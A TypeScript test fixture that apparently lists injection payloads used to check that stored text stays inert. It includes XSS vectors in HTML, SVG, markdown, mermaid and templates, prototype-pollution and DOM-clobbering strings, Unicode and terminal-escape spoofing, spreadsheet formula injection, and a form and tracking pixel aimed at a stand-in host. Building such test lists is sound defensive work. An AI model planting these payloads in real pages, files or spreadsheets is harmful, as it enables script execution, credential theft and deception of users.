/** A host that nothing may ask; a request to it would tell who reads what. */
export const CANARY = "https://canary.invalid";
/** What every payload that could run would do. */
const RUN = "window.injected=1";
const B64 = Buffer.from(`<script>parent.${RUN}</script>`).toString("base64");

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=${CANARY}/a.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>import "${CANARY}/m.js"</script>`,
  `</script><script>${RUN}</script>`,
  `</title></style></textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `<script\x20type="text/javascript">${RUN}</script >`,
  `<<script>${RUN}//<</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
];
const HANDLERS = [
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus='`,
  `\` onfocus=${RUN} autofocus `,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<video src=x onerror=${RUN}></video>`,
  `<audio src="${CANARY}/a.mp3" onerror=${RUN}></audio>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<button popovertarget=x>b</button><div popover id=x onbeforetoggle=${RUN}>x</div>`,
  `<style>@keyframes x{}</style><i style="animation-name:x" onanimationstart=${RUN}></i>`,
  `<a href=# onclick=${RUN}>click</a>`,
];
const VECTORS = [
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script xlink:href="data:text/javascript,${RUN}"></script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,${B64}#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><image href="${CANARY}/a.svg"/></svg>`,
  `<svg><set attributeName=href to=javascript:${RUN}></svg>`,
  `<math><maction actiontype="statusline#${CANARY}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
];
const FRAMES = [
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src="data:text/html;base64,${B64}"></iframe>`,
  `<object data="data:text/html;base64,${B64}"></object>`,
  `<embed src="${CANARY}/a.swf">`,
  `<frameset onload=${RUN}>`,
  `<portal src="${CANARY}"></portal>`,
  `<meta http-equiv="refresh" content="0;url=${CANARY}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="${CANARY}/">`,
  `<link rel=stylesheet href="${CANARY}/a.css">`,
  `<link rel=preload as=image href="${CANARY}/a.png">`,
  `<link rel=dns-prefetch href="//canary.invalid">`,
  `<form action="${CANARY}"><input name=password><button>Sign in</button></form>`,
  `<form id=f></form><button form=f formaction="javascript:${RUN}">x</button>`,
];
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:text/html;base64,${B64}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `blob:${CANARY}/1`,
  `//canary.invalid/a.png`,
  `${CANARY}/pixel.gif?who=reader`,
  `<a href="javascript:${RUN}">link</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">link</a>`,
  `<a href="${CANARY}" target=_blank>opener</a>`,
];
const MARKDOWN = [
  `[click](javascript:${RUN})`,
  `[click](<javascript:${RUN}>)`,
  `[click](data:text/html;base64,${B64})`,
  `[x]: javascript:${RUN}\n[x]`,
  `![picture](${CANARY}/a.png)`,
  `![picture][p]\n\n[p]: ${CANARY}/b.png`,
  `![x](x"onerror="${RUN})`,
  `<${CANARY}/autolink>`,
  `# <img src=x onerror=${RUN}>`,
  `| a | <img src=x onerror=${RUN}> |\n| - | - |`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${RUN}>"]; click A "javascript:${RUN}"\n\`\`\``,
  `%%{init: {"securityLevel":"loose","theme":"<script>${RUN}</script>"}}%%\ngraph LR; A-->B`,
  `$$\\href{javascript:${RUN}}{x}$$`,
  `$\\includegraphics{${CANARY}/a.png}$`,
  `\\unicode{<img src=x onerror=${RUN}>}`,
];
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{7*7}}{%if 1%}x{%endif%}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{__html: "<img src=x onerror=${RUN}>"}`,
  `{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${RUN}"}}}`,
  `<div v-html="'<img src=x onerror=${RUN}>'" ng-app x-data="${RUN}"></div>`,
];
const STYLES = [
  `<style>@import "${CANARY}/a.css";</style>`,
  `<style>*{background:url(${CANARY}/b.png)}</style>`,
  `red;background:url(${CANARY}/c.png)`,
  `expression(${RUN})`,
  `</style><script>${RUN}</script>`,
  `<div style="position:fixed;inset:0;z-index:9999">covers</div>`,
];
const CLOBBERING = [
  `<img name=cookie><form name=body><input name=parentNode></form>`,
  `<a id=__NEXT_DATA__></a><a id=__next_f></a>`,
  `<form id=content><input id=attributes></form>`,
  `__proto__`,
  `constructor.prototype.injected`,
  `__proto__[injected]=1`,
  `toString`,
  `hasOwnProperty`,
];
/** Text that is taken apart differently by what cleans it and by what shows it. */
const MUTATIONS = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `＜script＞${RUN}＜/script＞`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];
const SIGNS = [
  `\u001b[31mred\u001b[0m`,
  `\u001b]8;;${CANARY}\u0007link\u001b]8;;\u0007`,
  `\u001b]0;title\u0007\u001b[2J`,
  `\u009b31mred`,
  `\u202egnp.exe`,
  `\u2066\u202eadmin\u2069`,
  `a\u200bd\u200bmin`,
  `аdmin`,
  `Z̸̡͍a̷͔l̶͉g̷o̴`,
  `\ufeffbom`,
  `line\u2028separator\u2029here`,
  `"\\\`'<>&/`,
  `😀\u{1F468}\u200D\u{1F469}`,
  `back\bspace\rreturn`,
];
/** What spreadsheets would run. */
export const FORMULAS = [`=HYPERLINK("${CANARY}","x")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)`, `\t=1+1`, `\r=1+1`] as const;

/** Texts that would run, ask or mislead where they are taken for more than text; each is stored as it stands. */
export const PAYLOADS: readonly string[] = [
  ...SCRIPTS, ...HANDLERS, ...VECTORS, ...FRAMES, ...ADDRESSES, ...MARKDOWN, ...TEMPLATES, ...STYLES, ...CLOBBERING, ...MUTATIONS, ...SIGNS, ...FORMULAS,
];
